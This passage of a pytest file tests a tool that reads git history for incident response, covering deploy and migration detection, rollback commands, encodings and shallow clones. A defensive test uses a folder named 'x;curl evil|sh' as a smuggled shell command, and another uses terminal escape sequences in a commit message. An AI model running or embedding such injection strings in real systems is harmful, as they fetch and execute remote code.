"""The git source on real repositories built in temp dirs with the git CLI (and git fast-import for
a 100k-commit history): marks, odd encodings, shallow clones, detached HEAD, problems, leaks."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from warroom.settings import GitSettings
from warroom.sources.git import (
    Commit,
    GitProblem,
    GitSnapshot,
    commits_between,
    function_rollback_commands,
    glob_to_regex,
    read_commits,
    revert_command,
)

NOW = datetime(2026, 11, 26, 14, 0, tzinfo=UTC)

# The git CLI used to build test repositories: no user or system configuration leaks in.
GIT_ENV = {
    "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
    "HOME": "/nonexistent",
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_CONFIG_GLOBAL": "/dev/null",
    "GIT_AUTHOR_NAME": "Ada Lovelace",
    "GIT_AUTHOR_EMAIL": "ada@example.com",
    "GIT_COMMITTER_NAME": "Ada Lovelace",
    "GIT_COMMITTER_EMAIL": "ada@example.com",
    "LC_ALL": "C",
}


def git(cwd: Path, *args: str, input: bytes | None = None, env: dict[str, str] | None = None) -> str:
    """Run the git CLI; raise with git's message on failure; stdout as text."""
    full = {**GIT_ENV, **(env or {})}
    proc = subprocess.run(["git", *args], cwd=cwd, input=input, env=full, capture_output=True, check=False)
    if proc.returncode != 0:
        raise AssertionError(f"git {' '.join(args)} failed: {proc.stderr.decode(errors='replace')}")
    return proc.stdout.decode("utf-8", errors="replace").strip()


def init_repo(path: Path, branch: str = "main") -> Path:
    path.mkdir(parents=True, exist_ok=True)
    git(path, "init", "-q", "-b", branch)
    return path


def commit(
    repo: Path,
    message: str | bytes,
    when: datetime,
    files: dict[str, str] | None = None,
    *,
    delete: tuple[str, ...] = (),
    encoding: str | None = None,
) -> str:
    """Commit ``files`` (path -> content) at ``when`` (author and committer date); returns the sha."""
    for rel, content in (files or {}).items():
        p = repo / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(content)
        git(repo, "add", "--", rel)
    for rel in delete:
        git(repo, "rm", "-q", "--", rel)
    stamp = f"@{int(when.timestamp())} +0000"
    env = {"GIT_AUTHOR_DATE": stamp, "GIT_COMMITTER_DATE": stamp}
    msg = message if isinstance(message, bytes) else message.encode()
    args = ["commit", "-q", "--allow-empty", "--no-verify", "-F", "-"]
    if encoding:
        args = ["-c", f"i18n.commitEncoding={encoding}", *args]
    git(repo, *args, input=msg, env=env)
    return git(repo, "rev-parse", "HEAD")


def raw_commit(repo: Path, header_extra: bytes, message: bytes, when: datetime, author: bytes = b"") -> str:
    """Write a commit object byte for byte (git commit would repair bad UTF-8) on top of HEAD."""
    tree = git(repo, "rev-parse", "HEAD^{tree}")
    parent = git(repo, "rev-parse", "HEAD")
    who = author or b"Ada Lovelace <ada@example.com>"
    ts = str(int(when.timestamp())).encode()
    body = (
        b"tree " + tree.encode() + b"\nparent " + parent.encode() + b"\n"
        b"author " + who + b" " + ts + b" +0000\n"
        b"committer " + who + b" " + ts + b" +0000\n" + header_extra + b"\n" + message
    )
    sha = git(repo, "hash-object", "-t", "commit", "-w", "--stdin", "--literally", input=body)
    git(repo, "update-ref", "HEAD", sha)
    return sha


def build_history(path: Path, n: int, *, start: datetime, step: timedelta = timedelta(minutes=1)) -> Path:
    """A linear history of ``n`` commits made with ``git fast-import`` (100k in a few seconds).

    Commit ``i`` (0-based) is dated ``start + i * step`` and changes one of four files; its subject
    is ``change <i>``.
    """
    init_repo(path)
    t0 = int(start.timestamp())
    sec = int(step.total_seconds())
    chunks: list[bytes] = [b"blob\nmark :1\ndata 2\na\n\nblob\nmark :2\ndata 2\nb\n\n"]
    for i in range(n):
        msg = b"change %d" % i
        chunks.append(
            b"commit refs/heads/main\nmark :%d\n"
            b"author Bot <bot@example.com> %d +0000\ncommitter Bot <bot@example.com> %d +0000\n"
            b"data %d\n%s\n" % (i + 3, t0 + i * sec, t0 + i * sec, len(msg), msg)
        )
        if i:
            chunks.append(b"from :%d\n" % (i + 2))
        chunks.append(b"M 100644 :%d src/f%d.txt\n\n" % (1 + (i // 4) % 2, i % 4))
    git(path, "fast-import", "--quiet", input=b"".join(chunks))
    git(path, "checkout", "-q", "-f", "main")
    return path


def settings(repo: Path | None, **kw: object) -> GitSettings:
    return replace(GitSettings(repo=repo), **kw)  # type: ignore[arg-type]


def snapshot(repo: Path, *, now: datetime = NOW, freeze=(), **kw: object) -> GitSnapshot:  # type: ignore[no-untyped-def]
    got = read_commits(settings(repo, **kw), now=now, freeze=list(freeze))
    assert isinstance(got, GitSnapshot), got
    return got


def problem(repo: Path | None, **kw: object) -> GitProblem:
    got = read_commits(settings(repo, **kw), now=NOW)
    assert isinstance(got, GitProblem), got
    assert "\n" not in got.message
    return got


def git_children() -> list[str]:
    """Command lines of this process's child processes that are git (from /proc)."""
    me = os.getpid()
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            ppid = int(stat.rsplit(")", 1)[1].split()[1])
            cmd = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except (OSError, IndexError, ValueError):
            continue
        if ppid == me and "git" in cmd.split(" ", 1)[0]:
            found.append(cmd.strip())
    return found


# -- a repository with every kind of commit -------------------------------------------------------


@pytest.fixture
def project(tmp_path: Path) -> dict[str, object]:
    """A small Supabase-style project, six commits from 3 h ago to 5 min ago."""
    repo = init_repo(tmp_path / "project")
    shas = {}
    shas["init"] = commit(repo, "Initial commit", NOW - timedelta(hours=3), {"README.md": "hi\n"})
    shas["migration"] = commit(
        repo,
        "Add delivery status column\n\nLong body that mentions deploy but only in the body.",
        NOW - timedelta(minutes=90),
        {"supabase/migrations/20261126_delivery.sql": "alter table x add y int;\n"},
    )
    shas["deploy"] = commit(
        repo,
        "DEPLOY send-sms v2",
        NOW - timedelta(minutes=60),
        {"supabase/functions/send-sms/index.ts": "v2\n", "supabase/functions/notify/index.ts": "n\n"},
    )
    shas["tagged"] = commit(repo, "Fix typo in docs", NOW - timedelta(minutes=30), {"docs/a.md": "x\n"})
    git(repo, "tag", "-a", "release-42", "-m", "release 42")
    shas["rollback_sql"] = commit(
        repo,
        "hotfix during the incident",
        NOW - timedelta(minutes=10),
        {"scripts/sql/rollbacks/001.sql": "--\n"},
    )
    shas["plain"] = commit(repo, "Tidy logging", NOW - timedelta(minutes=5), {"src/app.ts": "log\n"})
    return {"repo": repo, "shas": shas}


def by_subject(snap: GitSnapshot) -> dict[str, Commit]:
    return {c.subject: c for c in snap.commits}


def test_reads_the_last_commits_newest_first_with_their_facts(project: dict) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    shas = project["shas"]
    snap = snapshot(repo)
    assert snap.repo == repo.resolve()
    assert snap.head == "main" and not snap.detached and not snap.shallow
    assert snap.read_at == NOW
    assert [c.sha for c in snap.commits] == [
        shas[k] for k in ("plain", "rollback_sql", "tagged", "deploy", "migration", "init")
    ]
    c = snap.commits[0]
    assert c.subject == "Tidy logging"
    assert c.author == "Ada Lovelace" and c.author_email == "ada@example.com"
    assert c.committed_at == NOW - timedelta(minutes=5) and c.committed_at.tzinfo is UTC
    assert c.sha.startswith(c.short_sha) and 7 <= len(c.short_sha) < 40
    assert c.parent == shas["rollback_sql"] and not c.is_merge
    assert c.paths == ("src/app.ts",) and c.paths_known
    assert c.age(NOW) == timedelta(minutes=5)
    assert snap.commits[-1].parent is None  # the root commit


def test_recent_deploy_migration_and_function_marks(project: dict) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    subj = by_subject(snapshot(repo))
    init, mig = subj["Initial commit"], subj["Add delivery status column"]
    deploy, tagged = subj["DEPLOY send-sms v2"], subj["Fix typo in docs"]
    hotfix, plain = subj["hotfix during the incident"], subj["Tidy logging"]

    # Recent: within 2 h of now.
    assert not init.is_recent
    assert all(c.is_recent for c in (mig, deploy, tagged, hotfix, plain))

    # Deploys: subject matches "deploy" in any case; the body does not count; tags count.
    assert deploy.is_deploy and deploy.deploy_reason == "subject matches 'deploy'"
    assert not mig.is_deploy
    assert tagged.is_deploy and tagged.tags == ("release-42",) and tagged.deploy_reason == "tag release-42"
    assert not plain.is_deploy and not hotfix.is_deploy

    # Migrations: the default globs cover supabase/migrations/, migrations/ and scripts/sql/.
    assert mig.is_migration and mig.migration_paths == ("supabase/migrations/20261126_delivery.sql",)
    assert hotfix.is_migration and hotfix.migration_paths == ("scripts/sql/rollbacks/001.sql",)
    assert not deploy.is_migration and not plain.is_migration and not init.is_migration

    # Edge functions touched.
    assert deploy.functions == ("notify", "send-sms")
    assert not deploy.touches_shared_functions
    assert plain.functions == ()
    assert deploy.marks == ("deploy", "functions")
    assert mig.marks == ("migration",)
    snap = snapshot(repo)
    assert snap.latest_deploy == tagged and snap.latest_deploy_or_migration == hotfix
    assert snap.deploys == (tagged, deploy)


def test_rollback_commands(project: dict) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    shas = project["shas"]
    subj = by_subject(snapshot(repo))
    deploy = subj["DEPLOY send-sms v2"]
    assert revert_command(deploy) == f"git revert {shas['deploy']}"
    assert function_rollback_commands(deploy) == [
        f"git checkout {shas['migration']}",
        "supabase functions deploy notify",
        "supabase functions deploy send-sms",
    ]
    assert function_rollback_commands(subj["Tidy logging"]) is None


def test_freeze_breaches(project: dict) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    declared = NOW - timedelta(minutes=45)
    snap = snapshot(repo, freeze=[(declared, None)])
    assert [c.subject for c in snap.breaches] == [
        "Tidy logging",
        "hotfix during the incident",
        "Fix typo in docs",
    ]
    # A freeze that ended (P0 downgraded) and one still going.
    spans = [(NOW - timedelta(minutes=95), NOW - timedelta(minutes=55)), (NOW - timedelta(minutes=7), None)]
    snap = snapshot(repo, freeze=spans)
    assert [c.subject for c in snap.breaches] == [
        "Tidy logging",
        "DEPLOY send-sms v2",
        "Add delivery status column",
    ]
    # The end of an interval is exclusive, its start inclusive.
    edge = [(NOW - timedelta(minutes=60), NOW - timedelta(minutes=5))]
    snap = snapshot(repo, freeze=edge)
    assert [c.subject for c in snap.breaches] == [
        "hotfix during the incident",
        "Fix typo in docs",
        "DEPLOY send-sms v2",
    ]
    assert not snapshot(repo).breaches


def test_count_pattern_tags_and_globs_come_from_settings(project: dict) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    snap = snapshot(repo, count=2)
    assert [c.subject for c in snap.commits] == ["Tidy logging", "hotfix during the incident"]

    subj = by_subject(snapshot(repo, deploy_pattern=r"^hotfix\b", deploy_tags=False))
    assert subj["hotfix during the incident"].is_deploy
    assert not subj["DEPLOY send-sms v2"].is_deploy
    assert not subj["Fix typo in docs"].is_deploy  # tags no longer count

    subj = by_subject(snapshot(repo, migration_globs=("docs/*.md",)))
    assert subj["Fix typo in docs"].is_migration
    assert not subj["Add delivery status column"].is_migration

    subj = by_subject(snapshot(repo, recent=timedelta(minutes=20)))
    assert [s for s, c in subj.items() if c.is_recent] == ["Tidy logging", "hotfix during the incident"]


@pytest.mark.parametrize(
    ("glob", "path", "matches"),
    [
        ("supabase/migrations/**", "supabase/migrations/001.sql", True),
        ("supabase/migrations/**", "supabase/migrations/sub/002.sql", True),
        ("supabase/migrations/**", "supabase/migrationsX/001.sql", False),
        ("migrations/**", "migrations/1.sql", True),
        ("migrations/**", "app/migrations/1.sql", False),
        ("**/migrations/**", "app/db/migrations/1.sql", True),
        ("**/migrations/**", "migrations/1.sql", True),
        ("**/migrations/**", "app/migrations.py", False),
        ("scripts/sql/**", "scripts/sql/rollbacks/001.sql", True),
        ("scripts/sql/**", "scripts/sqlx/1.sql", False),
        ("db/*.sql", "db/1.sql", True),
        ("db/*.sql", "db/x/1.sql", False),
        ("db/?.sql", "db/1.sql", True),
        ("db/[0-9]*.sql", "db/7_add.sql", True),
        ("db/[!0-9]*.sql", "db/7_add.sql", False),
        ("*.sql", "schema.sql", True),
        ("*.sql", "db/schema.sql", False),
        ("**/*.sql", "db/schema.sql", True),
        ("a+b/(x)/**", "a+b/(x)/y", True),
    ],
)
def test_glob_to_regex(glob: str, path: str, matches: bool) -> None:
    import re

    assert (re.fullmatch(glob_to_regex(glob), path) is not None) is matches


def test_shared_function_code_redeploys_every_function(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    first = commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
    commit(repo, "shared helper", NOW - timedelta(minutes=5), {"supabase/functions/_shared/db.ts": "x"})
    c = snapshot(repo).commits[0]
    assert c.functions == () and c.touches_shared_functions
    assert function_rollback_commands(c) == [f"git checkout {first}", "supabase functions deploy"]


@pytest.fixture
def git_calls(monkeypatch: pytest.MonkeyPatch) -> list[tuple[list[str], int]]:
    """Every git command the source runs, with the bytes it printed (a spy on the real runner)."""
    from warroom.sources.git.run import Runner

    calls: list[tuple[list[str], int]] = []
    real = Runner.run

    def spy(self: object, cmd: list[str], sink: Callable[[bytes], None], stdin: object = None) -> None:
        read = 0

        def counting(chunk: bytes) -> None:
            nonlocal read
            read += len(chunk)
            sink(chunk)

        try:
            real(self, cmd, counting, stdin)  # type: ignore[arg-type]
        finally:
            calls.append((list(cmd), read))

    monkeypatch.setattr(Runner, "run", spy)
    return calls


def subcommand(cmd: list[str]) -> str:
    return next(a for a in cmd if a in ("log", "cat-file"))


@pytest.mark.parametrize("folder", ["shared", "utils", "_utils", "lib-common"])
def test_a_folder_without_an_entrypoint_is_shared_code(tmp_path: Path, folder: str) -> None:
    # `Y` must not copy `supabase functions deploy utils` for a function that does not exist.
    repo = init_repo(tmp_path / "r")
    commit(repo, "init", NOW - timedelta(hours=1), {"supabase/functions/send-sms/index.ts": "v1"})
    first = commit(repo, "a function", NOW - timedelta(minutes=30), {"supabase/functions/send-sms/x.ts": "1"})
    commit(repo, "helpers", NOW - timedelta(minutes=5), {f"supabase/functions/{folder}/db.ts": "x"})
    c = snapshot(repo).commits[0]
    assert c.functions == () and c.touches_shared_functions and c.marks == ("functions",)
    assert function_rollback_commands(c) == [f"git checkout {first}", "supabase functions deploy"]


def test_a_function_is_a_folder_with_an_entrypoint_at_that_commit(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    commit(repo, "init", NOW - timedelta(hours=2), {"README.md": "hi"})
    # Entrypoints in any of the names Supabase bundles; a change to any file of the folder counts.
    commit(
        repo,
        "entrypoints",
        NOW - timedelta(minutes=50),
        {
            "supabase/functions/a-ts/index.ts": "x",
            "supabase/functions/b-js/index.js": "x",
            "supabase/functions/c-tsx/index.tsx": "x",
            "supabase/functions/d-mjs/index.mjs": "x",
            "supabase/functions/e-jsx/index.jsx": "x",
        },
    )
    commit(repo, "helper only", NOW - timedelta(minutes=40), {"supabase/functions/b-js/util.js": "y"})
    # A folder that becomes a function later is shared code until it has its entrypoint.
    commit(repo, "new fn, step 1", NOW - timedelta(minutes=30), {"supabase/functions/later/util.ts": "u"})
    commit(repo, "new fn, step 2", NOW - timedelta(minutes=20), {"supabase/functions/later/index.ts": "i"})
    # Deleting a function: at that commit it holds no entrypoint, so every function is redeployed
    # (which brings the deleted one back after `git checkout <parent>`).
    commit(repo, "drop c", NOW - timedelta(minutes=10), delete=("supabase/functions/c-tsx/index.tsx",))
    # Shared code and a function together: the rollback redeploys every function.
    commit(
        repo,
        "mixed",
        NOW - timedelta(minutes=5),
        {"supabase/functions/_shared/db.ts": "s", "supabase/functions/a-ts/index.ts": "z"},
    )
    subj = by_subject(snapshot(repo))
    assert subj["entrypoints"].functions == ("a-ts", "b-js", "c-tsx", "d-mjs", "e-jsx")
    assert not subj["entrypoints"].touches_shared_functions
    assert subj["helper only"].functions == ("b-js",) and not subj["helper only"].touches_shared_functions
    assert subj["new fn, step 1"].functions == () and subj["new fn, step 1"].touches_shared_functions
    assert subj["new fn, step 2"].functions == ("later",)
    assert not subj["new fn, step 2"].touches_shared_functions
    assert subj["drop c"].functions == () and subj["drop c"].touches_shared_functions
    mixed = subj["mixed"]
    assert mixed.functions == ("a-ts",) and mixed.touches_shared_functions
    cmds = function_rollback_commands(mixed)
    assert cmds is not None and cmds[1:] == ["supabase functions deploy"]
    cmds = function_rollback_commands(subj["helper only"])
    assert cmds is not None and cmds[1:] == ["supabase functions deploy b-js"]


def test_entrypoints_are_looked_up_once_per_commit_in_one_process(
    tmp_path: Path, git_calls: list[tuple[list[str], int]]
) -> None:
    repo = init_repo(tmp_path / "r")
    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
    for i in range(6):
        fn = f"supabase/functions/fn{i}"
        commit(repo, f"c{i}", NOW - timedelta(minutes=50 - i), {f"{fn}/index.ts": "x", f"{fn}/u.ts": "u"})
    first = snapshot(repo)
    assert [c.functions for c in first.commits[:6]] == [(f"fn{i}",) for i in range(5, -1, -1)]
    # One walk, one read of the commits not seen, one listing of their paths, one lookup of the
    # entrypoints of every function folder they touched.
    assert [subcommand(cmd) for cmd, _ in git_calls] == ["log", "log", "log", "cat-file"]
    git_calls.clear()
    assert snapshot(repo) == first
    assert [subcommand(cmd) for cmd, _ in git_calls] == ["log"]  # known commits: the walk only


def test_deploy_tags_off_never_asks_git_for_tags(
    project: dict, git_calls: list[tuple[list[str], int]]
) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    with_tags = by_subject(snapshot(repo))
    assert with_tags["Fix typo in docs"].tags == ("release-42",)
    walk = git_calls[0][0]
    assert any("%D" in a for a in walk) and "--decorate-refs=refs/tags/" in walk
    git_calls.clear()
    subj = by_subject(snapshot(repo, deploy_tags=False))
    assert subj["Fix typo in docs"].tags == () and not subj["Fix typo in docs"].is_deploy
    assert git_calls, "the source ran git"
    for cmd, _read in git_calls:
        assert not any("%D" in a or "%d" in a or a.startswith("--decorate") for a in cmd), cmd
        if subcommand(cmd) == "log":
            assert "--no-decorate" in cmd


def test_hostile_paths_never_reach_a_command(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
    commit(
        repo,
        "sneaky",
        NOW - timedelta(minutes=5),
        {"supabase/functions/x;curl evil|sh/index.ts": "x", "supabase/functions/ok-fn/index.ts": "y"},
    )
    c = snapshot(repo).commits[0]
    # A folder whose name no function can have is not a function, whatever it holds: it counts as
    # shared code, so the rollback redeploys every function and names none.
    assert c.functions == ("ok-fn",) and c.touches_shared_functions
    cmds = function_rollback_commands(c)
    assert cmds is not None and cmds[1:] == ["supabase functions deploy"]
    assert not any(";" in cmd or "|" in cmd for cmd in cmds)


def test_merge_commit_brings_the_branch_changes_and_reverts_the_mainline(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    base = commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
    git(repo, "checkout", "-q", "-b", "feature")
    commit(repo, "add column", NOW - timedelta(minutes=40), {"migrations/002.sql": "--"})
    git(repo, "checkout", "-q", "main")
    commit(repo, "unrelated", NOW - timedelta(minutes=30), {"b": "2"})
    stamp = f"@{int((NOW - timedelta(minutes=20)).timestamp())} +0000"
    git(
        repo,
        "merge",
        "-q",
        "--no-ff",
        "feature",
        "-m",
        "Merge feature: deploy",
        env={"GIT_AUTHOR_DATE": stamp, "GIT_COMMITTER_DATE": stamp},
    )
    merge = snapshot(repo).commits[0]
    assert merge.is_merge and len(merge.parents) == 2
    assert merge.paths == ("migrations/002.sql",)  # against the first parent
    assert merge.is_migration and merge.is_deploy
    assert revert_command(merge) == f"git revert -m 1 {merge.sha}"
    assert base not in merge.parents


def test_detached_head(project: dict) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    shas = project["shas"]
    git(repo, "checkout", "-q", "--detach", shas["deploy"])
    snap = snapshot(repo)
    assert snap.detached and snap.head == f"detached at {shas['deploy'][:7]}"
    assert [c.sha for c in snap.commits] == [shas["deploy"], shas["migration"], shas["init"]]


def test_subfolder_and_bare_repository(project: dict, tmp_path: Path) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    snap = snapshot(repo / "supabase" / "functions")
    assert snap.repo == repo.resolve() and len(snap.commits) == 6
    bare = tmp_path / "bare.git"
    git(tmp_path, "clone", "-q", "--bare", str(repo), str(bare))
    snap = snapshot(bare)
    assert [c.subject for c in snap.commits][:1] == ["Tidy logging"]
    assert snap.commits[2].tags == ("release-42",)


def test_shallow_clone(project: dict, tmp_path: Path) -> None:
    repo: Path = project["repo"]  # type: ignore[assignment]
    shas = project["shas"]
    clone = tmp_path / "shallow"
    git(tmp_path, "clone", "-q", "--depth", "4", f"file://{repo}", str(clone))
    snap = snapshot(clone)
    assert snap.shallow
    assert [c.sha for c in snap.commits] == [shas[k] for k in ("plain", "rollback_sql", "tagged", "deploy")]
    boundary = snap.commits[-1]
    # The boundary's parent is not in the clone: no parent, no paths, no guessed marks from
    # listing its whole tree (which holds the migrations folder).
    assert boundary.parent is None and not boundary.paths_known and boundary.paths == ()
    assert not boundary.is_migration and boundary.functions == ()
    assert boundary.is_deploy  # its subject still says so
    assert function_rollback_commands(boundary) is None
    inside = snap.commits[0]
    assert inside.paths_known and inside.parent == shas["rollback_sql"]
    assert snap.commits[1].is_migration

    one = tmp_path / "depth1"
    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{repo}", str(one))
    snap = snapshot(one)
    assert len(snap.commits) == 1 and not snap.commits[0].paths_known


def test_message_that_is_not_utf8(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
    raw_commit(
        repo, b"", b"deploy caf\xe9 \xff\xfe broken\n", NOW - timedelta(minutes=3), b"J\xf6rg <j@x.org>"
    )
    c = snapshot(repo).commits[0]
    assert c.subject == "deploy caf\ufffd \ufffd\ufffd broken"
    assert c.author == "J\ufffdrg"
    assert c.is_deploy


def test_declared_encodings(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
    # git commit with i18n.commitEncoding writes an "encoding ISO-8859-1" header and Latin-1 bytes.
    commit(
        repo, "Caf\xe9 cr\xe8me deploy".encode("latin-1"), NOW - timedelta(minutes=9), encoding="ISO-8859-1"
    )
    assert (
        b"encoding ISO-8859-1"
        in subprocess.run(
            ["git", "cat-file", "commit", "HEAD"], cwd=repo, capture_output=True, check=True
        ).stdout
    )
    raw_commit(repo, b"encoding KOI8-R\n", "Привет deploy".encode("koi8-r"), NOW - timedelta(minutes=8))
    raw_commit(repo, b"encoding x-no-such-charset\n", b"odd \xe9 name\n", NOW - timedelta(minutes=7))
    subjects = [c.subject for c in snapshot(repo).commits]
    assert subjects[:3] == ["odd \ufffd name", "Привет deploy", "Café crème deploy"]


def test_untrusted_text_is_cleaned(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
    commit(
        repo,
        "\x1b[2J\x1b]0;pwned\x07 deploy \u202eevil\u202c [bold]x[/bold]",
        NOW - timedelta(minutes=1),
        {"supabase/functions/f/\x1b[31mx.ts": "x", "supabase/functions/f/index.ts": "x"},
    )
    c = snapshot(repo).commits[0]
    assert c.subject == "deploy evil [bold]x[/bold]"
    assert c.paths == ("supabase/functions/f/x.ts", "supabase/functions/f/index.ts")
    assert all("\x1b" not in p for p in c.paths)
    assert c.functions == ("f",)


def test_a_commit_touching_thousands_of_files(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
    blob = git(repo, "hash-object", "-w", "--stdin", input=b"vendored\n")
    paths = [f"vendor/lib{i:05d}/index.js" for i in range(20_000)]
    paths += ["supabase/migrations/77_big.sql", "supabase/functions/zeta/index.ts"]
    info = "".join(f"100644 {blob}\t{p}\n" for p in paths).encode()
    git(repo, "update-index", "--add", "--index-info", input=info)
    commit(repo, "Vendor everything", NOW - timedelta(minutes=2))
    c = snapshot(repo).commits[0]
    assert (
        c.paths_total == 20_002 and len(c.paths) == 200 and c.paths[0] == "supabase/functions/zeta/index.ts"
    )
    assert c.is_migration and c.migration_paths == ("supabase/migrations/77_big.sql",)
    assert c.functions == ("zeta",)


def test_changed_paths_are_computed_once_per_commit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from warroom.sources.git.run import Runner

    asked: list[list[str]] = []
    real = Runner.paths

    def spy(self: object, shas: list[str]) -> object:
        asked.append(list(shas))
        return real(self, shas)  # type: ignore[arg-type]

    monkeypatch.setattr(Runner, "paths", spy)
    repo = init_repo(tmp_path / "r")
    a = commit(repo, "one", NOW - timedelta(minutes=30), {"migrations/1.sql": "--"})
    b = commit(repo, "two", NOW - timedelta(minutes=20), {"b": "1"})
    first = snapshot(repo)
    assert asked == [[b, a]]
    again = snapshot(repo)
    assert again == first and asked == [[b, a]]  # nothing new: one git log, no diff
    c = commit(repo, "three", NOW - timedelta(minutes=10), {"c": "1"})
    third = snapshot(repo)
    assert asked == [[b, a], [c]]  # only the new commit is diffed
    assert third.commits[2].is_migration and third.commits[2].paths == ("migrations/1.sql",)
    # Other globs are other marks: computed afresh.
    assert snapshot(repo, migration_globs=("b",)).commits[1].is_migration
    assert asked[-1] == [c, b, a]


def test_unreadable_changes_leave_the_commits_and_say_why(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    commit(repo, "one", NOW - timedelta(minutes=30), {"a": "1"})
    commit(repo, "deploy two", NOW - timedelta(minutes=20), {"dir/b": "1"})
    tree = git(repo, "rev-parse", "HEAD^{tree}")
    loose = repo / ".git" / "objects" / tree[:2] / tree[2:]
    loose.chmod(0o644)
    loose.write_bytes(b"not a zlib stream")  # the newest commit's tree is unreadable
    snap = snapshot(repo)
    assert [c.subject for c in snap.commits] == ["deploy two", "one"]
    assert snap.commits[0].is_deploy
    assert not snap.commits[0].paths_known and not snap.commits[1].paths_known
    assert snap.note.startswith("changed paths unavailable: ") and "\n" not in snap.note


def test_commit_dated_in_the_future_is_recent(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "r")
    commit(repo, "skewed clock", NOW + timedelta(minutes=3), {"a": "1"})
    c = snapshot(repo).commits[0]
    assert c.is_recent and c.age(NOW) == timedelta(0)


def test_absurd_commit_dates_are_clamped(tmp_path: Path) -> None:
    # A hand-made commit can carry any number as its date; git prints it as it is.
    from zoneinfo import ZoneInfo

    repo = init_repo(tmp_path / "r")
    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
    tree = git(repo, "rev-parse", "HEAD^{tree}")
    for stamp in ("99999999999999999999", "-5"):
        who = f"A <a@example.com> {stamp} +0000"
        body = f"tree {tree}\nparent {git(repo, 'rev-parse', 'HEAD')}\nauthor {who}\ncommitter {who}\n\nd {stamp}\n"
        sha = git(repo, "hash-object", "-t", "commit", "-w", "--stdin", "--literally", input=body.encode())
        git(repo, "update-ref", "HEAD", sha)
    epoch, far = snapshot(repo).commits[:2]
    assert far.subject == "d 99999999999999999999" and far.committed_at.year == 9000 and far.is_recent
    assert far.committed_at.astimezone(ZoneInfo("Pacific/Kiritimati")).year == 9000
    assert epoch.committed_at == datetime(1970, 1, 1, tzinfo=UTC) and not epoch.is_recent


# -- problems -----------------------------------------------------------------------------------------


def test_no_repository_configured() -> None:
    p = problem(None)
    assert p.kind == "unconfigured" and not p.is_error
    assert p.message == "no repository configured (--repo PATH or [git] repo)"


def test_not_a_repository(tmp_path: Path) -> None:
    assert problem(tmp_path / "missing").kind == "not_found"
    (tmp_path / "file.txt").write_text("x")
    p = problem(tmp_path / "file.txt")
    assert p.kind == "not_repository" and p.is_error
    plain = tmp_path / "plain"
    plain.mkdir()
    p = problem(plain)
    assert p.kind == "not_repository" and p.message == f"{plain}: not a git repository"


def test_empty_repository_is_an_empty_state(tmp_path: Path) -> None:
    repo = init_repo(tmp_path / "empty", branch="trunk")
    p = problem(repo)
    assert p.kind == "empty" and not p.is_error
    assert p.message == f"{repo}: no commits yet on trunk"


def test_git_missing(tmp_path: Path, project: dict) -> None:
    code = (
        "from datetime import datetime, timezone\n"
        "from pathlib import Path\n"
        "from warroom.settings import GitSettings\n"
        "from warroom.sources.git import read_commits\n"
        f"r = read_commits(GitSettings(repo=Path({str(project['repo'])!r})), now=datetime.now(timezone.utc))\n"
        "print(r.kind, '|', r.message)\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_PYTHON")}
    env["PATH"] = str(tmp_path / "no-bin")
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "git_missing | git is not installed (or not on PATH)"


def test_repository_removed_while_it_is_read(project: dict, monkeypatch: pytest.MonkeyPatch) -> None:
    from warroom.sources.git.run import Runner

    repo: Path = project["repo"]  # type: ignore[assignment]
    real = Runner.walk

    def vanish(self: Runner, *args: object) -> object:
        shutil.rmtree(repo)
        return real(self, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(Runner, "walk", vanish)
    p = problem(repo)
    assert p.kind == "failed" and p.message.startswith(f"{repo}: ") and "No such file" in p.message


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give the repository to another user")
def test_repository_owned_by_another_user_is_read(project: dict) -> None:
    # A production checkout owned by a deploy user: git's safe.directory check guards repository
    # discovery; read_commits names the repository explicitly and runs only a git log that
    # executes nothing from the repository's configuration, so it reads it.
    repo: Path = project["repo"]  # type: ignore[assignment]
    for p in [repo, *repo.rglob("*")]:
        os.lchown(p, 65534, 65534)
    with pytest.raises(AssertionError, match="dubious ownership"):
        git(repo, "log", "-1")
    assert len(snapshot(repo).commits) == 6


def test_the_callers_git_environment_and_configuration_are_ignored(
